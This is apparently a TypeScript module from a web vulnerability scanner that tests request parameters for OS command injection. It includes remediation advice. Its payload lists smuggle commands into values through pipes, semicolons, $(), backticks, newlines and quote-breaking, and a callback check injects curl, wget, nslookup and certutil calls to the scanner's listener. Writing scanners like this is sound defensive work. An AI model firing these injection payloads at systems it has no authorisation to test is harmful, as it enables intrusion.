import { bodyText } from '#probes/http/answer.ts';
import { cheatSheet, defineRule, type Check, type Scan, type Tried } from '../../rule.ts';
import { holdsBack } from './waiting.ts';
import {
  byDepth,
  isAlive,
  isCarried,
  isFileName,
  isRefused,
  leadsOn,
  likelyCommand,
  likelyFile,
} from './likely.ts';
import { calculates, holdsProduct, type Attempt, type Sum } from './sum.ts';

const rule = defineRule({
  id: 'active.command-injection',
  title: 'Text from a request reaches the operating system as a command (command injection)',
  vector: 'AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  cwe: 'CWE-78',
  pciAutoFail: true,
  explanation:
    'The website puts text that visitors send into a command line. The scan had the server calculate or wait in this way; attackers can have it do anything that the website’s account may do: read and change files, install programs, go on to other machines.',
  fix: '1. Do without the command line: use a function of the language for the same thing (look up a name, resize a picture, send a mail).\n2. Where a program must be started, start it without a shell and hand over its arguments as a list.\nNode.js: execFile("ping", ["-c", "1", host])\nPython: subprocess.run(["ping", "-c", "1", host])\nPHP: proc_open(["ping", "-c", "1", $host], …)\nJava: new ProcessBuilder("ping", "-c", "1", host)\n3. Accept only values of the expected form (a name or address), beginning with a letter or digit so that they are no option.\n4. Look through the logs for signs that someone has used it.',
  references: [
    'https://owasp.org/www-community/attacks/Command_Injection',
    cheatSheet('OS_Command_Injection_Defense'),
  ],
});

type Line = (sum: Sum, value: string) => Attempt;

const echo = ({ tag, a, b }: Sum) => `echo ${tag}$((${a}*${b}))`;
const shown = (value: string, { tag }: Sum, fill?: Attempt['fill']): Attempt => ({
  value,
  before: tag,
  ...(fill ? { fill } : {}),
});

/** One text for a value without quotes and in either kind: what stands behind the first fitting end is a comment. */
const inAnyQuotes = (separator: string, command: string): string =>
  ['', "'", '"'].map((quote) => `${quote}${separator}${command} #`).join('');

/** The likelier stand first. Each does nothing but print a number. */
const lines: readonly Line[] = [
  (sum, value) => shown(`${value}${inAnyQuotes('|', echo(sum))}`, sum),
  // On Windows `set /a` prints its result; on Unix it does nothing and `echo` does.
  (sum, value) => ({ value: `${value}&set /a ${sum.a}*${sum.b}&${echo(sum)}`, before: '' }),
  (sum, value) => shown(`${value}${inAnyQuotes(';', echo(sum))}`, sum),
  (sum) => shown(echo(sum), sum),
  (sum, value) => shown(`${value}$(${echo(sum)})`, sum),
  (sum, value) => shown(`${value}\n${echo(sum)}\n`, sum),
  (sum, value) => shown(`${value}\`expr ${sum.a} \\* ${sum.b}\``, { ...sum, tag: '' }),
  (sum, value) => ({ value: `${value}"&set /a ${sum.a}*${sum.b}&"`, before: '' }),
  // Filters that take out blanks, or look for commands at the beginning of words.
  (sum, value) => shown(`${value}|echo\${IFS}${sum.tag}$((${sum.a}*${sum.b}))`, sum),
  (sum, value) => shown(`${value}||${echo(sum)}`, sum),
  (sum, value) => shown(`${value}&&${echo(sum)}`, sum),
  (sum) => shown(`${echo(sum)}|`, sum),
  (sum) => shown(`|${echo(sum)}`, sum),
  (sum, value) => shown(`${value};e'c'ho\${IFS}${sum.tag}$((${sum.a}*${sum.b}));`, sum),
  (sum, value) =>
    shown(`${encodeURIComponent(value)}%250a${encodeURIComponent(echo(sum))}%250a`, sum, { raw: true }),
];

const shellErrors =
  /\b(?:sh|bash|dash|zsh|ash): (?:line )?\d{0,5}:? ?.{0,200}(?:not found|syntax error|unexpected|Unterminated)|is not recognized as an internal or external command/i;

/** By its name, or because a shell complained about the quotes of the first text. */
const isLikely = (tried: Tried): boolean =>
  likelyCommand(tried) ||
  (tried.marked !== null &&
    shellErrors.test(bodyText(tried.marked)) &&
    !shellErrors.test(bodyText(tried.plain)));

function mostLines(tried: Tried, scan: Scan): number {
  const likely = isLikely(tried);
  if (isCarried(tried)) return isAlive(tried) ? byDepth(scan, 0, 1, 4) : byDepth(scan, 0, 0, 1);
  const elsewhere = leadsOn(tried) || isFileName(tried.point.value);
  if (isAlive(tried) && elsewhere && !likely) return byDepth(scan, 0, 2, 6);
  if (isAlive(tried)) return likely ? byDepth(scan, 4, 8, lines.length) : byDepth(scan, 1, 3, 9);
  return likely ? byDepth(scan, 1, 2, 4) : byDepth(scan, 0, 0, 1);
}

/** A firewall's answer to the first line says the same to the others, unless the point is a likely one. */
async function byOutput(tried: Tried, scan: Scan): Promise<void> {
  let refused = 0;
  for (const line of lines.slice(0, mostLines(tried, scan))) {
    if (refused >= 2 && !isLikely(tried)) return;
    const made = await calculates(
      tried,
      (sum) => line(sum, tried.point.value),
      (answer) => {
        if (isRefused(answer.status)) refused += 1;
      },
    );
    if (!made) continue;
    // Without a mark before it the number may be that of a calculator, which leaves out what it does not understand.
    const marked = holdsProduct(made.answer, made.sum, made.sum.tag);
    if (!marked && (await calculates(tried, ({ a, b }) => ({ value: `${a}*${b}` })))) continue;
    tried.report(rule, {
      answer: made.answer,
      payload: made.payload,
      evidence: `A command that multiplies ${made.sum.a} by ${made.sum.b} was carried out: the answer holds ${made.sum.product}. It did so twice with different numbers.`,
      excerpt: made.sum.product,
    });
    return;
  }
}

const contactLine = ({ http, dns }: { http: string; dns: string | null }): string =>
  [
    `curl -s -m 5 ${http}`,
    `wget -q -T 5 -t 1 -O /dev/null ${http}`,
    ...(dns === null ? [] : [`nslookup ${dns}`]),
  ].join('||');

/** A command that asks our listener for an address; the contact may come long after the answer. */
async function byCallback(tried: Tried, scan: Scan): Promise<void> {
  const likely = isLikely(tried);
  if (!scan.callbacks || !(likely || (isAlive(tried) ? scan.depth !== 'few' : scan.depth === 'many'))) return;
  const { value } = tried.point;
  const windows = scan.site.tech.has('iis') || scan.site.tech.has('aspnet');
  const texts: ((line: string, call: { http: string; dns: string | null }) => string)[] = [
    (line) => `${value}${inAnyQuotes('|', line)}`,
    ...(scan.depth === 'few' ? [] : [(line: string) => `${value}$(${line})`]),
    ...(windows || scan.depth === 'many'
      ? [
          (_line: string, call: { http: string; dns: string | null }) =>
            `${value}&${call.dns === null ? `certutil -urlcache -f ${call.http} nul` : `nslookup ${call.dns}`}&`,
        ]
      : []),
  ];
  for (const text of texts) {
    let sent: Awaited<ReturnType<Tried['send']>> = null;
    let payload = '';
    const call = scan.callbacks.issue((contact) => {
      tried.report(rule, {
        answer: sent ?? tried.plain,
        payload,
        evidence: `A command in ${tried.point.name} made the server contact our listener (${contact.protocol}, ${contact.asked.slice(0, 120)}, from ${contact.from}).`,
      });
    });
    payload = text(contactLine(call), call);
    sent = await tried.send(payload);
  }
}

/** Lines that wait as many seconds as asked. `ver` exists on Windows alone, so that no Unix machine pings for ever. */
const waits: readonly ((value: string) => (pause: number) => string)[] = [
  (value) => (pause) => `${value}${inAnyQuotes('|', `sleep ${pause}`)}`,
  (value) => (pause) => `${value}$(sleep ${pause})`,
  (value) => (pause) => `${value}"&ver&&ping -n ${pause + 1} 127.0.0.1&"`,
  (value) => (pause) => `${value}&ver&&ping -n ${pause + 1} 127.0.0.1&`,
  (value) => (pause) => `${value}\nsleep ${pause}\n`,
  (value) => (pause) => `${value};sleep ${pause};`,
];

function mostWaits(tried: Tried, scan: Scan): number {
  if (isCarried(tried)) return byDepth(scan, 0, isAlive(tried) ? 1 : 0, 1);
  if (isLikely(tried)) return isAlive(tried) ? byDepth(scan, 1, 4, waits.length) : byDepth(scan, 1, 2, 3);
  if (isAlive(tried)) return byDepth(scan, 0, 1, 4);
  // Programs that say nothing of what they do work on files most.
  return byDepth(scan, likelyFile(tried) ? 1 : 0, 1, 2);
}

export const command: Check = {
  name: 'Command injection',
  rules: [rule],
  level: 'safe',
  point: async (tried, scan) => {
    if (tried.point.kind === 'file' || tried.point.kind === 'xml') return;
    await byOutput(tried, scan);
    if (!tried.found.has(rule.id)) await byCallback(tried, scan);
  },
  timed: async (tried, scan) => {
    if (tried.point.kind === 'file' || tried.point.kind === 'xml' || tried.found.has(rule.id)) return;
    for (const wait of waits.slice(0, mostWaits(tried, scan))) {
      const line = wait(tried.point.value);
      const delay = await holdsBack(tried, line);
      if (!delay) continue;
      tried.report(rule, {
        answer: delay.answer,
        payload: delay.payload,
        evidence: `A command that waits held the answer back: ${delay.evidence}`,
        confidence: 'certain',
      });
      return;
    }
  },
};
